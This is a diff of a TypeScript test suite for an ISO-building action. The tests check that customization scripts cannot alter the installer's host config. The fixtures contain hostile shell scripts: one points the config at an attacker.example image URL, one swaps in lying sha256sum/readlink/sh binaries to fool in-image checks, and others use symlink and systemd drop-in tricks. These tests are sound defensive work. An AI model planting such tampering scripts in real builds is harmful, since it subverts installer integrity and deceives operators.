@@ -746,73 +746,158 @@ describe('issue 11, class 8 (debris): the post step stops what a killed main ste
   });
 });
 
-describe('issue 11, class 4 (one host config on the ISO): a script extra-config adds cannot change it (stand-in Image Customizer runs the scripts in a chroot)', () => {
+describe("issue 11, class 4 (one host config on the ISO): a script cannot change it, checked from the ISO's bytes after the build (stand-in Image Customizer runs the scripts in a chroot, then makes liveos/rootfs.img with mksquashfs)", () => {
   const HOSTILE = "printf 'image:\\n  url: http://attacker.example/os.cosi\\n' > /etc/trident/config.yaml\n";
+  // The image's own tools replaced by liars that give the answers a check inside the image expects (the
+  // SHA-256 of the host config as the action wrote it, taken before it is rewritten; the ISO mount's link
+  // target): a check run inside the image with them would pass.
+  const LIARS =
+    'real=$(busybox sha256sum < /etc/trident/config.yaml)\n' +
+    'rm -f /usr/bin/sha256sum /usr/bin/readlink /usr/bin/sh\n' +
+    'printf \'#!/usr/bin/busybox sh\\necho "%s"\\n\' "$real" > /usr/bin/sha256sum\n' +
+    "printf '#!/usr/bin/busybox sh\\necho /run/initramfs/live\\n' > /usr/bin/readlink\n" +
+    'chmod 755 /usr/bin/sha256sum /usr/bin/readlink\nln -s busybox /usr/bin/sh\n';
+  const indent = (text: string) => text.replace(/^/gm, '        ');
 
-  async function refused(extra: string, changed: RegExp, more: Record<string, string> = {}) {
-    writeFileSync(path.join(dirs.workspace, 'extra.yaml'), extra);
+  async function refused(extra: string, changed: RegExp, more: Record<string, string> = {}, input = 'extra-config') {
+    if (input === 'extra-config') writeFileSync(path.join(dirs.workspace, 'extra.yaml'), extra);
     userFiles = sha256Tree(dirs.workspace);
-    const result = await run({ ...INPUTS, 'extra-config': 'extra.yaml', ...more });
+    const result = await run(input === 'extra-config' ? { ...INPUTS, 'extra-config': 'extra.yaml', ...more } : more);
     expect(result.main.exitCode, result.main.stdout).toBe(1);
     expect(errors(result.main)).toEqual([
       {
-        title: "Input 'extra-config'",
-        message: expect.stringMatching(/a script it adds .* (changed what the action wrote into the live OS|kept the action.s check)/) as string,
+        title: `Input '${input}'`,
+        message: expect.stringMatching(/the ISO Image Customizer built (from it )?does not hold/) as string,
       },
     ]);
     expect(errors(result.main)[0]?.message).toMatch(changed);
-    // Image Customizer ran (the scripts are part of its build) and stopped: no ISO was made or delivered.
+    expect(errors(result.main)[0]?.message).toContain('The ISO was not delivered');
+    // Image Customizer ran (the scripts are part of its build) and wrote its ISO; the check stopped it before output or the upload.
     expect(calls('docker', 'run')).toHaveLength(1);
     expect(existsSync(path.join(dirs.workspace, 'installer.iso'))).toBe(false);
+    expect(result.main.stdout).not.toContain('Upload artifact');
     expectUserFilesUnchanged();
     expect(result.post?.exitCode).toBe(0);
   }
 
-  it('a postCustomization script rewrites /etc/trident/config.yaml: the run fails naming extra-config, no ISO', async () => {
+  it('a postCustomization script rewrites /etc/trident/config.yaml: the run fails naming extra-config and what the ISO holds instead, no ISO', async () => {
     await refused(
-      `scripts:\n  postCustomization:\n    - content: |\n${HOSTILE.replace(/^/gm, '        ')}`,
-      /\/etc\/trident\/config\.yaml \(changed\)/,
+      `scripts:\n  postCustomization:\n    - content: |\n${indent(HOSTILE)}`,
+      /\/etc\/trident\/config\.yaml \(live OS\): a regular file of \d+ bytes, not the \d+ bytes/,
     );
   });
 
-  it('a finalizeCustomization script replaces it with a symlink: refused the same way (the check runs after it)', async () => {
+  it("a script that first replaces the image's sha256sum, readlink and sh with liars, then rewrites the host config: caught all the same (read from outside)", async () => {
+    await refused(
+      `scripts:\n  finalizeCustomization:\n    - content: |\n${indent(LIARS + HOSTILE)}`,
+      /\/etc\/trident\/config\.yaml \(live OS\): a regular file/,
+    );
+  });
+
+  it('the same bytes count: a rewrite of the same length is caught by its SHA-256', async () => {
+    // The first character of the copy (a comment's #) becomes another: same size, other bytes.
+    await refused(
+      `scripts:\n  finalizeCustomization:\n    - content: |\n${indent(`${LIARS}sed -i '1s/^./X/' /etc/trident/config.yaml\n`)}`,
+      /\/etc\/trident\/config\.yaml \(live OS\): a regular file with SHA-256 [0-9a-f]{64}, not [0-9a-f]{64}/,
+    );
+  });
+
+  it('a finalizeCustomization script replaces it with a symlink: refused, saying it is a link', async () => {
     await refused(
       'scripts:\n  finalizeCustomization:\n    - content: |\n        rm /etc/trident/config.yaml\n        ln -s /tmp/other.yaml /etc/trident/config.yaml\n',
-      /\/etc\/trident\/config\.yaml \(missing or not a regular file\)/,
+      /\/etc\/trident\/config\.yaml \(live OS\): a symbolic link to \/tmp\/other\.yaml, not the regular file/,
+    );
+  });
+
+  it('a script moves /etc/trident away and links it elsewhere: the link in the parent is reported, not followed', async () => {
+    await refused(
+      'scripts:\n  finalizeCustomization:\n    - content: |\n        mkdir /tmp/t && cp /etc/trident/config.yaml /tmp/t/ && rm -r /etc/trident && ln -s /tmp/t /etc/trident\n',
+      /\/etc\/trident\/config\.yaml \(live OS\): reached through a symbolic link, \/etc\/trident → \/tmp\/t/,
     );
   });
 
   it('a script given arguments and an interpreter empties the journal drop-in: refused, naming that file', async () => {
     await refused(
       'scripts:\n  finalizeCustomization:\n    - name: tidy\n      content: \': > "$1"\'\n      interpreter: /bin/sh\n      arguments: [/etc/systemd/journald.conf.d/50-trident-iso-console.conf]\n',
-      /50-trident-iso-console\.conf \(changed\)/,
+      /50-trident-iso-console\.conf \(live OS\): a regular file of 0 bytes/,
     );
   });
 
   it('patchable: a script points /mnt/trident_cdrom elsewhere (where /etc/trident/config.yaml leads): refused', async () => {
     await refused(
       'scripts:\n  postCustomization:\n    - content: |\n        rm /mnt/trident_cdrom\n        ln -s /etc /mnt/trident_cdrom\n',
-      /\/mnt\/trident_cdrom \(points elsewhere\)/,
+      /\/mnt\/trident_cdrom \(live OS\): a symbolic link to \/etc, not a symbolic link to \/run\/initramfs\/live/,
       { patchable: 'true' },
     );
   });
 
-  it('a script that removes /bin/sh so the check cannot run: still refused, naming extra-config', async () => {
+  it("a script adds a drop-in for trident-install.service (another config at boot) and another trident first on systemd's path: both refused, named", async () => {
     await refused(
-      'scripts:\n  finalizeCustomization:\n    - content: |\n        echo x > /etc/trident/config.yaml\n        rm -f /usr/bin/sh\n',
-      /kept the action's check of the live OS from running/,
+      'scripts:\n  postCustomization:\n    - content: |\n' +
+        indent(
+          'mkdir -p /etc/systemd/system/trident-install.service.d /usr/local/bin\n' +
+            "printf '[Service]\\nExecStart=\\nExecStart=trident install /var/other.yaml\\n' > /etc/systemd/system/trident-install.service.d/override.conf\n" +
+            "printf '#!/bin/sh\\n' > /usr/local/bin/trident\n",
+        ),
+      /\/etc\/systemd\/system\/trident-install\.service\.d \(live OS\): a folder holding override\.conf[\s\S]*\/usr\/local\/bin\/trident \(live OS\): a regular file/,
     );
   });
 
-  it('innocent scripts in both lists run (in order, in the chroot) and the build succeeds', async () => {
+  it("a user's full config whose script swaps the tools for liars and rewrites the host config it carries: refused, naming config", async () => {
+    mkdirSync(path.join(dirs.workspace, 'ic'));
+    copyFileSync(path.join(dirs.workspace, 'host-config.yaml'), path.join(dirs.workspace, 'ic', 'host.yaml'));
+    writeFileSync(
+      path.join(dirs.workspace, 'ic', 'config.yaml'),
+      'os:\n  hostname: installer\n  packages:\n    install: [netplan]\n  additionalFiles:\n    - source: host.yaml\n      destination: /etc/trident/config.yaml\n' +
+        `scripts:\n  postCustomization:\n    - content: |\n${indent(LIARS + HOSTILE)}`,
+    );
+    await refused('', /\/etc\/trident\/config\.yaml \(live OS\): a regular file/, { config: 'ic/config.yaml' }, 'config');
+  });
+
+  it("a user's full config with iso.initramfsType full-os (no liveos/rootfs.img to read): warned that its host config is not checked, delivered", async () => {
+    mkdirSync(path.join(dirs.workspace, 'ic'));
+    copyFileSync(path.join(dirs.workspace, 'host-config.yaml'), path.join(dirs.workspace, 'ic', 'host.yaml'));
+    writeFileSync(
+      path.join(dirs.workspace, 'ic', 'config.yaml'),
+      'iso:\n  initramfsType: full-os\nos:\n  packages:\n    install: [netplan]\n  additionalFiles:\n    - source: host.yaml\n      destination: /etc/trident/config.yaml\n',
+    );
+    const result = await run({ config: 'ic/config.yaml' });
+    expect(result.main.exitCode, result.main.stdout).toBe(0);
+    expect(result.main.warnings.map((w) => w.message)).toContainEqual(expect.stringContaining('full-os puts the live OS into the initramfs'));
+    expect(existsSync(path.join(dirs.workspace, 'installer.iso'))).toBe(true);
+  });
+
+  it('an ISO whose live OS image is compressed with another compressor (lz4) cannot be checked: not delivered, saying why', async () => {
+    const result = await run(INPUTS, { STANDIN_SQUASHFS_COMP: 'lz4' });
+    expect(result.main.exitCode, result.main.stdout).toBe(1);
+    expect(errors(result.main)[0]?.message).toMatch(
+      /The ISO's live OS could not be checked: its \/liveos\/rootfs\.img cannot be read: it is compressed with lz4/,
+    );
+    expect(existsSync(path.join(dirs.workspace, 'installer.iso'))).toBe(false);
+    expect(result.post?.exitCode).toBe(0);
+  });
+
+  it('innocent scripts in both lists run (in order, in the chroot) and the build succeeds: the ISO is checked and delivered', async () => {
     writeFileSync(
       path.join(dirs.workspace, 'extra.yaml'),
-      'scripts:\n  postCustomization:\n    - content: |\n        echo post > /etc/motd\n        cat /etc/trident/config.yaml > /dev/null\n' +
+      // An empty drop-in folder for Trident's unit changes nothing: it passes the check.
+      'scripts:\n  postCustomization:\n    - content: |\n        echo post > /etc/motd\n        cat /etc/trident/config.yaml > /dev/null\n        mkdir -p /etc/systemd/system/trident-install.service.d\n' +
         '  finalizeCustomization:\n    - content: |\n        grep -q post /etc/motd\n        echo final >> /etc/motd\n',
     );
     const result = await run({ ...INPUTS, 'extra-config': 'extra.yaml' });
     expect(result.main.exitCode, result.main.stdout).toBe(0);
-    expect(existsSync(path.join(dirs.workspace, 'installer.iso'))).toBe(true);
+    const iso = path.join(dirs.workspace, 'installer.iso');
+    expect(existsSync(iso)).toBe(true);
+    // Checked from the ISO's bytes, reading a small part of it.
+    const [, read, size] =
+      /The ISO holds what the action wrote \(\d+ paths of the live OS and the media checked from its bytes; (\d+) of its (\d+) bytes read\)/.exec(
+        result.main.stdout,
+      ) ?? [];
+    expect(Number(size)).toBeGreaterThan(10 * Number(read));
+    // The live OS on the ISO is what the scripts made (unsquashfs reads the ISO's liveos/rootfs.img).
+    const rootfs = path.join(dirs.root, 'rootfs.img');
+    writeFileSync(rootfs, execFileSync('isoinfo', ['-R', '-i', iso, '-x', '/liveos/rootfs.img'], { maxBuffer: 1 << 26 }));
+    expect(execFileSync('unsquashfs', ['-cat', rootfs, 'etc/motd'], { encoding: 'utf8' })).toBe('post\nfinal\n');
     expect(result.post?.exitCode).toBe(0);
   });
 });
